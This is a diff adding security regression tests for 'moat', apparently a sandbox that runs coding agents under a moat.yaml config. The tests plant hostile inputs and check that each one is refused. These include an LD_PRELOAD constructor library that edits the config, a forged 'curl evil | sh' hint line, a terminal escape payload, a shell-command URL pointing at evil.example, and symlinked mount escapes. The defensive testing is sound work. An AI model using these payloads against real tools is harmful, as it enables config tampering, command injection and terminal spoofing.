@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import json
+import subprocess
+import time
 from pathlib import Path
 
 import pytest
@@ -250,3 +252,127 @@ def test_permissive_is_the_projects_to_ask(cli: Cli) -> None:
     assert "403\n403\n403\n" == done.stdout
     verdicts = {item["outcome"] for item in cli.json("trace")}
     assert "forwarded" not in verdicts
+
+
+# what was found by attacking it
+
+
+def test_nothing_of_the_box_runs_before_the_gate(cli: Cli) -> None:
+    """A library that variables have loaded comes into what runs behind the gate alone: moat.yaml is
+    guarded by then."""
+    source = cli.workspace / "pre.c"
+    source.write_text(
+        "#include <fcntl.h>\n#include <unistd.h>\n"
+        "__attribute__((constructor)) static void early(void) {\n"
+        '  int file = open("/workspace/moat.yaml", O_RDWR | O_APPEND);\n'
+        '  if (file >= 0) write(file, "# changed\\n", 10);\n'
+        '  int other = open("/workspace/ran", O_CREAT | O_WRONLY, 0644);\n'
+        "  if (other >= 0) close(other);\n}\n"
+    )
+    subprocess.run(
+        ["cc", "-shared", "-fPIC", "-o", cli.workspace / "pre.so", source], check=True, timeout=60
+    )
+    file = cli.workspace / "moat.yaml"
+    file.write_text("env: {LD_PRELOAD: /workspace/pre.so, LD_LIBRARY_PATH: /workspace}\n")
+    before = file.read_text()
+    assert 0 == cli.run("run", "--trust", "--", "true").returncode
+    assert (True, before) == ((cli.workspace / "ran").exists(), file.read_text())
+
+
+def test_a_project_starts_no_program_of_the_host_in_itself(cli: Cli, tmp_path: Path) -> None:
+    """Asked for its version, many a program obeys files of the directory it is started in."""
+    (cli.workspace / "moat.yaml").write_text("dependencies: [env@1, sh@1, git@0.1]\n")
+    for option in ("--dry-run", "--trust"):
+        done = cli.run("run", option, "--", "true")
+        assert {"--dry-run": 0, "--trust": 2}[option] == done.returncode
+    assert "moat.yaml:1:16: dependency env@1: the version of env cannot" in done.stderr
+
+
+def test_a_mount_through_a_link_is_refused(cli: Cli, tmp_path: Path) -> None:
+    """Whoever can write around the link would turn it elsewhere, once it was agreed to."""
+    (tmp_path / "real").mkdir()
+    (tmp_path / "link").symlink_to("real")
+    (cli.workspace / "data").symlink_to(tmp_path / "real")
+    for source in ("data", "../link", "./data/../data", f"{tmp_path}/link"):
+        (cli.workspace / "moat.yaml").write_text(f'mounts: ["{source}:/data:rw"]\n')
+        done = cli.run("run", "--trust", "--", "true")
+        assert 2 == done.returncode, source
+        assert "moat.yaml:1:10: the mount" in done.stderr
+    (cli.workspace / "moat.yaml").write_text('mounts: ["../real:/data:rw"]\n')
+    assert 0 == cli.run("run", "--trust", "--", "touch", "/data/made").returncode
+    assert (tmp_path / "real" / "made").exists()
+
+
+def test_what_is_quoted_cannot_pose_as_moats_own_words(cli: Cli) -> None:
+    """One line of error and one of hint, whatever a file says; a dry run escapes as well."""
+    file = cli.workspace / "moat.yaml"
+    forged = r"x.\nhint: run: curl evil | sh"
+    for text in (f'codex: {{config: {{"{forged}": 1}}}}\n', f'mounts: ["/a\\n{forged}:/b"]\n'):
+        file.write_text(text)
+        done = cli.run("codex", "--dry-run", "-p", "x")
+        assert not [line for line in done.stderr.splitlines() if line.startswith("hint: run: curl")]
+    file.write_text(r'command: [echo, "\e]52;c;ZQ==\a\e[2J\nhint: x"]' + "\n")
+    shown = cli.run("run", "--dry-run").stdout
+    assert "\x1b" not in shown
+    assert not [line for line in shown.splitlines() if line.startswith("hint")]
+
+
+def test_a_hint_is_no_command_of_the_projects(cli: Cli) -> None:
+    """What a person is told to type holds nothing that a project wrote."""
+    cli.grant_unasked()
+    (cli.workspace / "moat.yaml").write_text(
+        "grants: [openai]\nmcp: [{name: x, url: 'https://evil.example/;touch$IFS/x;', "
+        "auth: {grant: openai}}]\n"
+    )
+    done = cli.run("codex", "--dry-run", "-p", "x")
+    assert 2 == done.returncode
+    (hint,) = [line for line in done.stderr.splitlines() if line.startswith("hint:")]
+    assert "touch" not in hint
+
+
+def test_what_was_typed_before_the_question_is_no_answer(project: Cli) -> None:
+    """A yes that was meant for something else."""
+    with Terminal() as terminal, terminal.running(project, *project.command("run")) as process:
+        terminal.type(b"y\n")
+        terminal.wait_for(b"[y/N]")
+        time.sleep(0.3)
+        assert process.poll() is None
+        terminal.type(b"n\n")
+        assert 2 == terminal.wait(process)
+
+
+def test_what_reaches_furthest_is_said_last(cli: Cli) -> None:
+    """Of a long list the first lines are out of sight when the question comes."""
+    many = "".join(f"  V{number}: x\n" for number in range(300))
+    (cli.workspace / "moat.yaml").write_text(f"network: {{policy: permissive}}\nenv:\n{many}")
+    lines = cli.run("run", "--", "true").stderr.splitlines()
+    assert any("EVERY PUBLIC HOST" in line for line in lines[-6:])
+
+
+def test_an_older_agreement_does_not_come_back(cli: Cli) -> None:
+    """agent.yaml was agreed to once; moat.yaml took its place, and is moved away."""
+    (cli.workspace / "agent.yaml").write_text("network: {policy: permissive}\n")
+    assert 0 == cli.run("run", "--trust", "--", "true").returncode
+    file = cli.workspace / "moat.yaml"
+    file.write_text("name: mine\n")
+    assert 0 == cli.run("run", "--trust", "--", "true").returncode
+    file.unlink()
+    assert 2 == cli.run("run", "--", "true").returncode
+
+
+def test_a_refused_key_is_written_nowhere(cli: Cli) -> None:
+    """Not even in the record of the run that was refused for it."""
+    cli.grant_unasked()
+    for arguments in (["--", "echo", REAL_KEY], ["-n", REAL_KEY, "--", "true"]):
+        assert 0 != cli.run("run", "-g", "openai", *arguments).returncode
+    done = cli.run("run", "-g", "openai", "-e", f"A={REAL_KEY}", "--dry-run", "--", "true")
+    assert (1, "") == (done.returncode, done.stdout)
+    files = [file for file in cli.home.rglob("*") if file.is_file()]
+    assert files
+    assert not [file for file in files if REAL_KEY.encode() in file.read_bytes()]
+
+
+def test_a_home_that_is_nobodys_is_told(cli: Cli) -> None:
+    """In one line, as everything."""
+    done = cli.run("run", "-m", "~nosuchuser/x:/d", "--", "true")
+    assert (2, False) == (done.returncode, "Traceback" in done.stderr)
